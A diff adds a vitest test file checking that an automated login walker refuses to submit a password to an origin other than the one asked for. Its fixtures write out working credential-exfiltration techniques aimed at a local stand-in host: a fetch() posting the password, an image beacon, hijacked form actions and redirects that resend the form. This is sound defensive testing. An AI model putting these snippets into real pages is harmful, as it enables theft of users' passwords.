@@ -1,0 +1,129 @@
+import { describe, expect, vi } from 'vitest';
+import { type Handler, sendPage, serve, to } from '../lab/host.ts';
+import { target, user } from '../lab/layout-host.ts';
+import { loginPage } from '../lab/pages.ts';
+import { test } from '../lab/walk.ts';
+
+vi.setConfig({ testTimeout: 40_000 });
+
+type Pages = Record<string, string | Handler>;
+/** Pages of the service, of which some lead to another host. */
+type Service = (other: string) => Pages;
+
+const at = (address: string) => loginPage.replace('action="/login"', `action="${address}"`);
+const submitted = (script: string) => `${loginPage}<script>
+  document.forms[0].onsubmit = (event) => { const password = document.getElementById('p').value; ${script} };</script>`;
+
+/** Each would give the password to the other host. */
+const ways: readonly (readonly [string, Service])[] = [
+  ['a redirect to a page', (other) => ({ '/authorize': to(`${other}/form`) })],
+  ['a frame', (other) => ({ '/authorize': `<iframe src="${other}/form"></iframe>` })],
+  [
+    'a page around a frame of its own',
+    (other) => ({ '/authorize': to(`${other}/around`), '/form': loginPage }),
+  ],
+  [
+    'a pop-up window',
+    (other) => ({ '/authorize': `<script>window.open("${other}/form")</script>Wait` }),
+  ],
+  ['the address of a form', (other) => ({ '/authorize': at(`${other}/login`) })],
+  [
+    'the address of a form that its base makes',
+    (other) => ({ '/authorize': `<base href="${other}/">${at('login')}` }),
+  ],
+  [
+    'the address of a button',
+    (other) => ({
+      '/authorize': loginPage.replace('<button', `<button formaction="${other}/login"`),
+    }),
+  ],
+  [
+    'a form in a frame',
+    (other) => ({ '/authorize': '<iframe src="/form"></iframe>', '/form': at(`${other}/login`) }),
+  ],
+  [
+    'an address that a script sets at last',
+    (other) => ({ '/authorize': submitted(`event.target.action = '${other}/login'`) }),
+  ],
+  [
+    'a script that sends JSON',
+    (other) => ({
+      '/authorize': submitted(
+        `event.preventDefault(); fetch('${other}/login', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ password }) })`,
+      ),
+    }),
+  ],
+  [
+    'a script that loads a picture',
+    (other) => ({
+      '/authorize': submitted(
+        `event.preventDefault(); new Image().src = '${other}/login?p=' + encodeURIComponent(password)`,
+      ),
+    }),
+  ],
+  [
+    'a redirect that sends the form again',
+    (other) => ({ '/authorize': loginPage, '/login': to(`${other}/login`, 307) }),
+  ],
+  [
+    'a redirect with the password in its address',
+    (other) => ({
+      '/authorize': loginPage,
+      '/login': (request, response, body) => to(`${other}/login?${body}`)(request, response, body),
+    }),
+  ],
+];
+
+/** The other host, which keeps all that it was sent. */
+async function openOther(own: () => string) {
+  const heard: string[] = [];
+  const hear: Handler = (request, response, body) => {
+    heard.push(`${request.url} ${body}`);
+    if (request.url?.startsWith('/around'))
+      return sendPage(response, `<iframe src="${own()}/form"></iframe>`);
+    if (request.url === '/form') return sendPage(response, loginPage);
+    return to(`${target}?code=1`)(request, response, body);
+  };
+  const host = await serve(hear);
+  // Another name for this machine, and so another site.
+  const base = host.base.replace('127.0.0.1', 'localhost');
+  return { base, heard, [Symbol.asyncDispose]: () => host[Symbol.asyncDispose]() };
+}
+
+describe.concurrent('the password goes to the origin that was asked, and to those named', () => {
+  test.for(ways)('%s: not to another one', async ([, service], { walk }) => {
+    let own = '';
+    await using other = await openOther(() => own);
+    await using server = await serve(service(other.base));
+    own = server.base;
+
+    const seen = await walk(`${own}/authorize`);
+
+    expect(decodeURIComponent(other.heard.join(' '))).not.toContain(user.password);
+    expect(seen).toMatchObject({ ended: 'stopped-at-page', elsewhere: { origin: other.base } });
+    expect(seen.explanation).toContain(other.base);
+    expect(seen.explanation).not.toContain(user.password);
+  });
+
+  test.for(ways.slice(0, 8))('%s: where it is named', async ([, service], { walk }) => {
+    let own = '';
+    await using other = await openOther(() => own);
+    await using server = await serve({ '/login': to(`${target}?code=1`), ...service(other.base) });
+    own = server.base;
+
+    const seen = await walk(`${own}/authorize`, { loginOrigins: [other.base] });
+
+    expect(seen.ended, seen.explanation).toBe('redirected');
+  });
+
+  test('nor by a login script', async ({ walk }) => {
+    await using other = await openOther(() => '');
+    await using server = await serve({ '/authorize': to(`${other.base}/form`) });
+    const login = [{ fill: '#p', with: 'password' as const }, { click: 'button' }];
+
+    const seen = await walk(`${server.base}/authorize`, { script: { login } });
+
+    expect(other.heard).toEqual(['/form ']);
+    expect(seen).toMatchObject({ ended: 'stopped-at-page', elsewhere: { origin: other.base } });
+  });
+});
